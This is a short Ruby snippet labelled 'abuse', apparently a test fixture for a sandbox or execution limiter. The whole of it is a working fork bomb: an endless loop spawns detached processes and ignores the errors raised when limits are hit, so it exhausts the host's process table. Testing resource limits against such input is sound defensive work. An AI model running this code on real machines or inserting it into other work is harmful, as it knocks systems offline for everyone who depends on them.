# abuse: 6 7
loop do
  begin
    fork { Process.setsid }
  rescue SystemCallError
    nil
  end
end
